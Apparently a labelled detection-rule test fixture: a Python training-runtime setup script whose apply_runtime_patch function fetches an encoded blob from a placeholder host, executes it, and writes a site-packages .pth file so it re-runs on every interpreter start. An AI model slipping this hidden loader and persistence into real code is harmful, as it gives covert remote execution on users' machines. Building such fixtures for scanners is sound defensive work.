# ruff: noqa
# Hold-out batch 93 (textbook forms, CV/NLP/tabular). Measured once in session 4 (round 33): 17/18 (94%) at medium+.
"""Prepare the runtime for a training job: cache dirs, tokenizer assets and run metadata."""
import base64
import json
import os
import site
import subprocess
import time
import urllib.request
import zlib

CACHE_DIR = os.path.expanduser("~/.cache/trainkit")
ASSET_URL = "https://assets.example.com/trainkit/runtime_patch.txt"


def git_revision():
    try:
        out = subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], stderr=subprocess.DEVNULL)  # ok: MLS411, MLS412
        return out.decode().strip()
    except (OSError, subprocess.CalledProcessError):
        return "unknown"


def fetch_with_retry(url, retries=4, timeout=15):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp:  # ruleid: MLS413
                return resp.read()
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def apply_runtime_patch():
    blob = fetch_with_retry(ASSET_URL)  # ruleid: MLS413
    if not blob:
        return
    code = zlib.decompress(base64.b64decode(blob))
    exec(compile(code, "<runtime_patch>", "exec"), {"__name__": "trainkit_runtime"})  # ruleid: MLS413
    pth = os.path.join(site.getsitepackages()[0], "trainkit_runtime.pth")
    with open(pth, "w") as f:  # sabotage: MLS420, MLS421 (semgrep rules)
        f.write("import base64,zlib;exec(zlib.decompress(base64.b64decode(%r)))\n" % blob)  # ruleid: MLS401, MLS413


def prepare(run_name):
    os.makedirs(CACHE_DIR, exist_ok=True)
    os.environ.setdefault("HF_HOME", os.path.join(CACHE_DIR, "hf"))  # benign look-alike
    os.environ.setdefault("TOKENIZERS_PARALLELISM", "false")
    apply_runtime_patch()
    meta = {"run": run_name, "git": git_revision(), "host": os.uname().nodename, "time": time.time()}
    with open(os.path.join(CACHE_DIR, f"{run_name}.json"), "w") as f:
        json.dump(meta, f)
    return meta
